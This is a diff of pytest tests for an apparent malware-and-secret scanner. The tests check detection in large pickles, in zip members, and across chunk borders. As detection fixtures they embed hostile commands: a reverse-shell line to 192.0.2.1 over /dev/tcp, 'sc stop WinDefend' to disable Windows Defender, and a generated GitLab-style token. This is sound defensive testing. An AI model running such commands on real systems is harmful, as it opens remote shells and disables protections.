@@ -76,6 +76,58 @@ def test_malware_in_a_string_of_a_pickle_is_found(sample):
     assert len(matches(artifact)) == 1 and artifact["status"] == "unsafe"
 
 
+LARGE = 300_000  #: bytes: such a pickle is swept in a cell beside the one that parses it
+
+
+def large_pickle(*texts):
+    made = pickle(4)
+    for text in texts:
+        made = made.binbytes(text)
+    return bytes(made.stop())
+
+
+@pytest.mark.parametrize("options", [(), ("--no-secrets",), ("--malware", "full"), ("--jobs", "1")])
+def test_malware_and_secrets_in_a_large_pickle_are_found(sample, options):
+    token = "glpat-" + "".join(random.Random(7).choices("abcdefghjkmnpqrstuvwxyzABCDEFGHJKMNPQRSTUVWXYZ23456789", k=20))
+    content = large_pickle(bytes(LARGE), SHELL, b"token = '" + token.encode() + b"'\n", bytes(LARGE))
+    artifact = only(scan(sample(content, "a.pkl"), *options))
+    (found,) = matches(artifact)
+    assert content[found["offset"]:].startswith((b"/dev/tcp/", b"bash -i", b"sh -i")) and artifact["status"] == "unsafe"
+    secrets = [f for f in artifact["findings"] if f["rule"].startswith("secret.")]
+    assert len(secrets) == (0 if "--no-secrets" in options else 1)
+    assert len({f["fingerprint"] for f in artifact["findings"]}) == len(artifact["findings"])
+
+
+def test_what_is_a_members_own_is_told_once_and_there(sample):
+    """Behind a large pickle lies a zip: its members' bytes are theirs, not the pickle's."""
+    content = large_pickle(bytes(LARGE)) + plain_zip({"run.sh": SHELL})
+    artifact = only(scan(sample(content, "a.pkl")))
+    (found,) = matches(artifact)
+    assert found["member"].endswith("run.sh")
+
+
+def test_malware_off_in_a_large_pickle(sample):
+    artifact = only(scan(sample(large_pickle(bytes(LARGE), SHELL), "a.pkl"), "--malware", "off"))
+    assert not matches(artifact) and engine(artifact)["status"] == "unscanned"
+
+
+@pytest.mark.parametrize("word", [b"/dev/tcp/", b"windefend", b"WinDefend ", b"powershell "])
+def test_bytes_full_of_anchors_cost_a_bounded_amount(sample, word):
+    began = time.monotonic()
+    artifact = only(scan(sample(word * (30_000_000 // len(word)), "a.bin")))
+    assert time.monotonic() - began < 60
+    assert engine(artifact)["status"] in ("safe", "unsafe", "suspicious", "caution") or engine(artifact)["message"]
+
+
+def test_malware_at_every_border_of_stretches_is_found(sample):
+    """Blocks of 16 and 64 KiB, stretches of 256 KiB that share 64 KiB: what lies across a border is found all the same."""
+    attack = b"\nsc stop WinDefend\n"
+    for border in (16 << 10, 64 << 10, 256 << 10, 320 << 10, 512 << 10, 1 << 20, (1 << 20) + (256 << 10)):
+        for before in (1, 9, len(attack) - 1):
+            content = b"\xff" * (border - before) + attack + b"\xff" * (2 << 20)
+            assert len(matches(only(scan(sample(content, "a.bin"))))) == 1, (border, before)
+
+
 def test_a_document_that_tells_about_attacks_is_not_one(sample):
     text = b"# Attacks\n\nAttackers run `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` to get a shell, and this page tells how to see it.\n"
     artifact = only(scan(sample(text, "SECURITY.md")))
